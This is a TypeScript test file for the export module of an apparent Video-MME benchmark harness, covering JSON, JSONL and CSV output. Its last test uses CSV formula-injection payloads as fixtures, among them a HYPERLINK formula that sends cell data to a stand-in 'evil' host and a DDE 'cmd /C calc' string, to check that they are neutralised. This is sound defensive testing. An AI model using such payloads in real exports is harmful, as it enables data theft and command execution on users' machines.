import { assert, describe, it } from "@effect/vitest"
import { Schema } from "effect"
import { renderExport, toVideoMme } from "../../../src/programs/report/Export.js"
import { prediction } from "../../support/harness/RunRows.js"

// The results layout Video-MME's eval_your_results.py reads: a list of videos, each with its questions and
// the model's `response` next to the ground-truth `answer`. Extra keys are refused so a typo shows.
const OfficialLayout = Schema.Array(Schema.Struct({
  video_id: Schema.String,
  duration: Schema.NullOr(Schema.Literal("short", "medium", "long")),
  domain: Schema.NullOr(Schema.String),
  sub_category: Schema.NullOr(Schema.String),
  // What the script itself indexes (item["duration_category"], …); the three above are the README's.
  duration_category: Schema.NullOr(Schema.Literal("short", "medium", "long")),
  video_category: Schema.NullOr(Schema.String),
  video_subcategory: Schema.NullOr(Schema.String),
  missing: Schema.Literal(false),
  questions: Schema.NonEmptyArray(Schema.Struct({
    question_id: Schema.String,
    task_type: Schema.NullOr(Schema.String),
    question: Schema.String,
    options: Schema.Array(Schema.String),
    answer: Schema.NullOr(Schema.String),
    response: Schema.String
  }))
}))
const decodeOfficial = Schema.decodeUnknownSync(OfficialLayout, { onExcessProperty: "error" })

const rows = [
  prediction({ questionId: "001-1", videoId: "fFjv93ACGo8", duration: "short", domain: "Knowledge", prediction: "B" }),
  prediction({
    questionId: "002-1",
    videoId: "other",
    duration: "long",
    prediction: null,
    correct: false,
    stopReason: "parse_error"
  }),
  prediction({
    questionId: "001-2",
    videoId: "fFjv93ACGo8",
    duration: "short",
    domain: "Knowledge",
    question: `Says "hi, there"?`
  })
]

describe("export", () => {
  it("videomme: one entry per video in the official layout, questions grouped, unanswered as an empty response", () => {
    const videos = decodeOfficial(JSON.parse(renderExport("videomme", rows)))
    assert.deepStrictEqual(
      videos.map((v) => [v.video_id, v.duration, v.domain, v.questions.map((q) => q.question_id)]),
      [
        ["fFjv93ACGo8", "short", "Knowledge", ["001-1", "001-2"]],
        ["other", "long", null, ["002-1"]]
      ]
    )
    assert.deepStrictEqual(videos[1]!.questions[0]!.response, "")
    assert.deepStrictEqual(toVideoMme([])[0], undefined)
  })

  it("jsonl: one prediction per line with outcome, usage, cost and stop reason", () => {
    const lines = renderExport("jsonl", rows, (id) => id === "001-1" ? 0.5 : null).trimEnd().split("\n").map((l) =>
      JSON.parse(l)
    )
    assert.strictEqual(lines.length, 3)
    assert.deepInclude(lines[1], {
      question_id: "002-1",
      outcome: "unanswered",
      stop_reason: "parse_error",
      prompt_tokens: 100,
      cost_usd: null
    })
    assert.deepInclude(lines[0], { outcome: "correct", cost_usd: 0.5, time_ms: 1_000 })
  })

  it("jsonl and csv say which answers were forced (given after the step budget was spent)", () => {
    const forced = [
      prediction({ questionId: "f1", stopReason: "budget_exceeded", forced: true }),
      prediction({ questionId: "f2", stopReason: "budget_exceeded", prediction: null, correct: false }),
      prediction({ questionId: "f3" })
    ]
    const lines = renderExport("jsonl", forced).trimEnd().split("\n").map((l) => JSON.parse(l))
    assert.deepStrictEqual(lines.map((l) => [l.question_id, l.forced, l.outcome]), [
      ["f1", true, "correct"],
      ["f2", false, "unanswered"],
      ["f3", false, "correct"]
    ])
    const csv = renderExport("csv", forced).split("\r\n")
    const column = csv[0]!.split(",").indexOf("forced")
    assert.deepStrictEqual(csv.slice(1, 4).map((row) => row.split(",")[column]), ["true", "false", "false"])
  })

  it("csv: a header, one row per prediction, quotes and commas escaped", () => {
    const csv = renderExport("csv", rows).split("\r\n")
    assert.strictEqual(
      csv[0],
      "run_id,agent_model,question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome," +
        "stop_reason,forced,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error,evidence,reasoning,answer_text,answer_form"
    )
    assert.include(csv[3], `"Says ""hi, there""?"`)
    assert.strictEqual(csv.length, 5)
    assert.strictEqual(renderExport("csv", []).split("\r\n")[0], csv[0])
  })

  it("csv: a question, task type or domain that starts a formula is written with a leading ' (#21 point 7)", () => {
    const hostile = [
      prediction({
        questionId: "h-1",
        question: `=HYPERLINK("http://evil/?"&A1,"x")`,
        taskType: "+cmd|' /C calc'!A0",
        domain: "@SUM(1+1)"
      }),
      prediction({
        questionId: "h-2",
        question: "-2+3",
        taskType: "\tTab",
        domain: "\rCR",
        evidence: "=1+1",
        reasoning: "@cmd"
      }),
      prediction({ questionId: "-7", question: "-1.5", taskType: "plain" })
    ]
    const run = { runId: "=run", agentModel: "+model" }
    const [, first, second, third] = renderExport("csv", hostile, () => null, run).split("\r\n")
    assert.include(first, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`)
    assert.include(first, `,'+cmd|' /C calc'!A0,`)
    assert.include(first, `'@SUM(1+1)`)
    assert.include(second, `'-2+3`)
    assert.include(second, `'\tTab`)
    assert.include(second, `"'\rCR"`)
    assert.include(second, `,'=1+1,'@cmd`)
    assert.isTrue(first!.startsWith("'=run,'+model,h-1,"))
    // A negative number is a number, not a formula.
    assert.isTrue(third!.startsWith("'=run,'+model,-7,"))
    assert.include(third, ",-1.5,")
    // No cell of any row begins with a formula character once its quotes are set aside.
    for (const row of [first, second]) {
      const cells = row!.match(/("([^"]|"")*"|[^,]*)/g)!.filter((c) => c !== "").map((c) => c.replace(/^"/, ""))
      for (const cell of cells) assert.notMatch(cell, /^[=+@\t\r]/)
    }
  })
})
